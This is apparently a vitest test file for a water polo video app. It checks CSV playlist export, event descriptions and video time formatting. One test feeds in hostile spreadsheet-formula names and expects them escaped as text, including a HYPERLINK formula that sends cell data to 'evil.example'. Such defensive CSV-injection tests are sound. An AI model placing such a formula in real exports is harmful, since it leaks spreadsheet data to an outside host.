import { describe, expect, it } from 'vitest';
import { formatClock, type MatchEvent } from '../../../../src/domain/model';
import {
  describeClipEvent,
  playlistCsv,
  type ClipEventDescription,
  type PlaylistWords,
} from '../../../../src/domain/video';
import { clipEvent, csvPlaylist } from './videoBuilders';

describe('the playlist as CSV', () => {
  const { clips, names } = csvPlaylist();
  // The app brings the words; here the codes stand for them.
  const words: PlaylistWords = {
    heading: (column) => column,
    quarter: (quarter) => `q${quarter}`,
    event: (event) => [event.type, event.shootOutcome].filter(Boolean).join(', '),
  };

  it('has a header and one row per clip in play order, quoted where needed, CRLF lines and a BOM', () => {
    expect(playlistCsv(clips, names, words)).toBe(
      '\uFEFF' +
        [
          'match,team,quarter,time,videoTime,event,player,clipStart,clipEnd',
          '"Sharks v ""Mariners"", final",Sharks,q2,6:25,2:05,"SHOOT, GOAL",#7 KovG,1:57,2:08',
          '"Sharks v ""Mariners"", final",Sharks,q3,3:00,5:30.5,BALLLOST,#4,5:24.5,5:32.5',
          '',
        ].join('\r\n'),
    );
  });

  it("writes match, team and player names that are formulae as text, another club's archive's too", () => {
    const hostile: typeof names = {
      matchName: () => '@SUM(1+1)*cmd',
      teamName: () => '=HYPERLINK("http://evil.example/?x="&A1,"Mariners")',
      playerName: () => '-2+3',
    };
    const [, goal] = playlistCsv(clips, hostile, words).split('\r\n');
    expect(goal).toBe(
      `"'@SUM(1+1)*cmd","'=HYPERLINK(""http://evil.example/?x=""&A1,""Mariners"")",q2,6:25,2:05,"SHOOT, GOAL",#7 -2+3,1:57,2:08`,
    );
  });

  it('an empty playlist is the header alone', () => {
    expect(playlistCsv([], names, words)).toBe(
      '\uFEFFmatch,team,quarter,time,videoTime,event,player,clipStart,clipEnd\r\n',
    );
  });
});

describe('what a clip says of its event, and video times', () => {
  it.each<[string, MatchEvent, ClipEventDescription]>([
    [
      'a goal names outcome and situation',
      clipEvent('SHOOT', { shootOutcome: 'GOAL', shootSituation: 'CENTER' }),
      { type: 'SHOOT', outcome: 'GOAL', details: [{ code: 'situation', situation: 'CENTER' }] },
    ],
    [
      'a shot against in a man-down says so',
      clipEvent('SHOOTAGAINST', { shootOutcome: 'BLOCKFOR', extraPlayer: true, offense: false }),
      { type: 'SHOOTAGAINST', outcome: 'BLOCKFOR', details: [{ code: 'manAdvantage', manAdvantage: 'MAN_DOWN' }] },
    ],
    [
      'an exclusion names its type',
      clipEvent('EXCLUSIONAGAINST', { exclusionType: 'WITH_SUBSTITUTION' }),
      { type: 'EXCLUSIONAGAINST', outcome: null, details: [{ code: 'exclusion', exclusionType: 'WITH_SUBSTITUTION' }] },
    ],
    [
      'a man-up goal from action lists the situation before the strength',
      clipEvent('SHOOT', { shootOutcome: 'GOAL', shootSituation: 'ACTION', extraPlayer: true, offense: true }),
      {
        type: 'SHOOT',
        outcome: 'GOAL',
        details: [
          { code: 'situation', situation: 'ACTION' },
          { code: 'manAdvantage', manAdvantage: 'MAN_UP' },
        ],
      },
    ],
    [
      'a turnover names its kind',
      clipEvent('BALLLOST', { turnOverType: 'BAD_PASS' }),
      { type: 'BALLLOST', outcome: null, details: [{ code: 'turnover', turnOverType: 'BAD_PASS' }] },
    ],
    ['a timeout is just a timeout', clipEvent('TIMEOUT'), { type: 'TIMEOUT', outcome: null, details: [] }],
  ])('%s', (_name, event, description) => {
    expect(describeClipEvent(event)).toEqual(description);
  });

  it.each<[number, string]>([
    [0, '0:00'],
    [65, '1:05'],
    [41.5, '0:41.5'],
    [41.04, '0:41'],
    [3725, '1:02:05'],
    [-3, '0:00'],
  ])('%s seconds of video read %s', (seconds, text) => {
    expect(formatClock(seconds, 'videoPosition')).toBe(text);
  });
});
